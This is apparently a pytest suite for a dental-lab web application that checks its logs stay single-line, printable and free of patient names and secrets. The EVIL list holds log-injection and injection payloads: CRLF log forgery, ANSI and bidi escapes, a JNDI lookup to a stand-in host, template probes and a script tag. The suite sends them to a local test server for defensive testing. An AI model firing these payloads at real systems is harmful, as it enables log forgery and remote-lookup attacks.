"""ATK-21: what an attacker sends stays one harmless line in the log, and no secret or patient arrives there at all."""

import json
import logging
import sys
from collections.abc import Iterator
from typing import Any

import pytest

from dentatool.project.logs import LONGEST, OneLine
from harness.laboratories import nobody_client
from harness.live import COOKIE, Line, LiveServer, Wire, running_server

EVIL = [
    "zeile\r\n2026-11-23 ERROR gefälscht: Anmeldung von anna erfolgreich",
    '\n{"level": "INFO", "message": "gefälscht"}',
    "\x1b[2J\x1b[31mrot\x07\x08\x08",
    "trenner\u2028\u2029\x85\x0b\x0c",
    "\u202egnp.exe\u2066\u200b\ufeff",
    '"}, {"level": "INFO", "message": "gefälscht"}',
    "${jndi:ldap://boese.example/a} {{7*7}} %s %(name)s {0.__class__}",
    "<script>alert(1)</script>",
    "\x00null",
    "x" * 200_000,
]
PATIENT = "Leopoldine Zschokke-Überreuther"


def line_of(message: str, *args: object, **extra: Any) -> str:
    record = logging.getLogger("dentatool.test").makeRecord(
        "dentatool.test", logging.ERROR, "x.py", 1, message, args, None, extra=extra
    )
    return OneLine().format(record)


@pytest.mark.parametrize("evil", EVIL, ids=range(len(EVIL)))
def test_whatever_is_logged_is_one_line_of_plain_characters(evil):
    line = line_of("Not Found: %s", evil, path=evil, request=evil)

    assert line.isascii() and line.isprintable()
    assert len(line) < 6 * 3 * LONGEST + 500
    told = json.loads(line)
    assert told["message"] == f"Not Found: {evil}"[:LONGEST]
    assert told["level"] == "ERROR"


def test_the_log_says_where_it_broke_and_not_what_was_in_it():
    try:
        try:
            int(PATIENT)
        except ValueError as first:
            raise KeyError(PATIENT) from first
    except KeyError:
        made = logging.getLogger("x").makeRecord("x", logging.ERROR, "x.py", 1, "broke", (), sys.exc_info())

    told = json.loads(OneLine().format(made))
    assert [error["type"] for error in told["errors"]] == ["KeyError", "ValueError"]
    assert "test_the_log_says_where" in told["errors"][0]["where"][-1]
    assert "Zschokke" not in OneLine().format(made)
    assert "Zschokke" in OneLine(with_texts=True).format(made)


def test_a_refusal_of_the_database_names_the_rule_and_no_value(anna):
    from django.db import IntegrityError, transaction

    from dentatool.practices.models import Practice

    with anna.at_work():
        Practice.objects.create(customer_number=PATIENT[:10], name=PATIENT)
        try:
            with transaction.atomic():
                Practice.objects.create(customer_number=PATIENT[:10], name=PATIENT)
        except IntegrityError:
            made = logging.getLogger("x").makeRecord("x", logging.ERROR, "x.py", 1, "broke", (), sys.exc_info())

    line = OneLine().format(made)
    assert "23505" in line and "customer_number" in line
    assert "Leopoldine" not in line


@pytest.fixture(scope="module")
def served(database: dict) -> Iterator[LiveServer]:
    with running_server("loginjection", threads=2) as server:
        yield server


@pytest.mark.slow
def test_the_served_program_logs_attacks_as_single_lines_and_no_secret(anna, served):
    session = anna.client("owner").cookies[COOKIE].value
    line, name = Line(served), anna.owner.sign_in_name
    for evil in EVIL[:-1]:
        header = evil.replace("\r", "").replace("\n", "").replace("\x00", "").encode()
        claims = dict.fromkeys(("User-Agent", "X-Forwarded-For", "X-Request-ID", "Accept-Language"), header)
        line.ask("GET", "/gibt-es-nicht/", session, headers=claims)
        line.ask("POST", "/anmelden/", form={"name": evil, "password": PATIENT, "weiter": evil})
        line.ask("POST", "/anmelden/", form={"name": name, "password": f"{PATIENT}{evil}"})
        line.ask("POST", "/auftraege/neu/", session, {"order_number": evil, "patient_name": PATIENT, "practice": evil})
        line.ask("POST", "/auftraege/neu/patienten/", session, {"suche": PATIENT})
    line.close()
    for raw in (b"/a%0d%0aERROR%20gef%C3%A4lscht", b"/a%1b%5b2J%e2%80%ae", b"/%00", b"/" + b"x" * 6000):
        with Wire(served) as wire:
            wire.send(b"GET ", raw, b" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
            wire.hear(3)
    with Wire(served) as wire:
        wire.send(b"GET / HTTP/1.1\r\nHost: \x1b[31mboese\r\nConnection: close\r\n\r\n")
        wire.hear(3)

    told = served.log.read_bytes()
    lines = told.decode().splitlines()
    events = [json.loads(each) for each in lines if each.startswith("{")]
    assert [each for each in lines if not (each.isascii() and each.isprintable())] == []
    assert len([event for event in events if event["message"].startswith("Not Found")]) >= len(EVIL)
    assert not {event["message"] for event in events} & {"gefälscht"}
    for secret in (PATIENT, "Zschokke", anna.owner.password, session, "csrfmiddlewaretoken"):
        assert secret.encode() not in told and json.dumps(secret)[1:-1].encode() not in told, secret


def test_an_unexpected_error_in_a_view_leaves_no_patient_in_the_log(anna, monkeypatch, caplog):
    def broken(*_: object) -> None:
        raise RuntimeError(f"cannot handle {PATIENT}")

    monkeypatch.setattr("dentatool.orders.views.clean_search", broken)
    client = anna.client("owner")
    client.raise_request_exception = False
    answer = client.get("/auftraege/")
    nobody_client().get("/livez")

    assert answer.status_code == 500
    shown = [OneLine().format(record) for record in caplog.records]
    assert any('"RuntimeError"' in each and "orders/views.py" in each for each in shown)
    assert not any("Zschokke" in each for each in shown)


def test_what_stands_behind_the_question_mark_is_not_logged(anna, caplog):
    """ASVS 14.2.1: a search may be a patient's name, a link may open something."""
    anna.client("owner").get("/gibt-es-nicht/?q=Petra+Sommer&schein=abc", secure=True)

    (record,) = [each for each in caplog.records if each.name == "django.request"]
    line = OneLine().format(record)
    assert "GET /gibt-es-nicht/" in line
    assert "Petra" not in line and "Sommer" not in line and "abc" not in line
